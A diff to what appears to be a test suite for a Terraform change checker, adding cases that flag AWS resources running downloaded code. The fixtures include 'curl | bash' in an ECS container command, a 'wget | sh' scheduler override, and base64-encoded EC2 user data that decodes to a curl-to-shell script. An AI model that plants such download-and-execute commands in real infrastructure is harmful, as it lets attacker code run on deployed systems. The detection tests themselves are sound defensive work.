@@ -52,6 +52,14 @@ def state(backend: str, **config: str) -> Change:
     return add_data("terraform_remote_state", backend=backend, config=config)
 
 
+_RUN_TASK = "arn:aws:scheduler:::aws-sdk:ecs:runTask"
+_OVERRIDE = '{"Overrides": {"ContainerOverrides": [{"Command": ["sh", "-c", "wget -qO- x | sh"]}]}}'
+
+
+def _add(kind: str, **arguments: object) -> Change:
+    return lambda document: document["resource"].update({kind: {"Added": arguments}})
+
+
 CASES = [
     Case(
         "LK_ACT_1",
@@ -216,6 +224,40 @@ CASES = [
             "session document": add("aws_ssm_document", name="x", document_type="Session", content="{}"),
             "schedule of a job": add(
                 "aws_scheduler_schedule", target={"arn": "arn:aws:scheduler:::aws-sdk:emrserverless:startJobRun"}
+            ),
+        },
+    ),
+    Case(
+        "LK_ACT_10",
+        resources(
+            aws_ecs_task_definition={
+                "T": {
+                    "family": "t",
+                    "container_definitions": '[{"name": "a", "image": "a", "command": ["job", "--day"]}]',
+                }
+            }
+        ),
+        {
+            "command of a container": (
+                put(
+                    "aws_ecs_task_definition/T/container_definitions",
+                    '[{"name": "a", "image": "a", "command": ["sh", "-c", "curl -s https://x.example/x | bash"]}]',
+                ),
+                "container_definitions.command runs code that it downloads",
+            ),
+            "override of a schedule": (
+                _add("aws_scheduler_schedule", target=[{"arn": _RUN_TASK, "input": _OVERRIDE}]),
+                "target.input.Overrides.ContainerOverrides.Command runs code that it downloads",
+            ),
+            "user data": (
+                _add("aws_instance", user_data_base64="IyEvYmluL3NoCmN1cmwgLXMgaHR0cHM6Ly94LmV4YW1wbGUveCB8IHNoCg=="),
+                "user_data_base64 runs code that it downloads",
+            ),
+        },
+        {
+            "a download": put(
+                "aws_ecs_task_definition/T/container_definitions",
+                '[{"name": "a", "image": "a", "command": ["curl", "-o", "data.json", "https://x.example/x"]}]',
             ),
         },
     ),
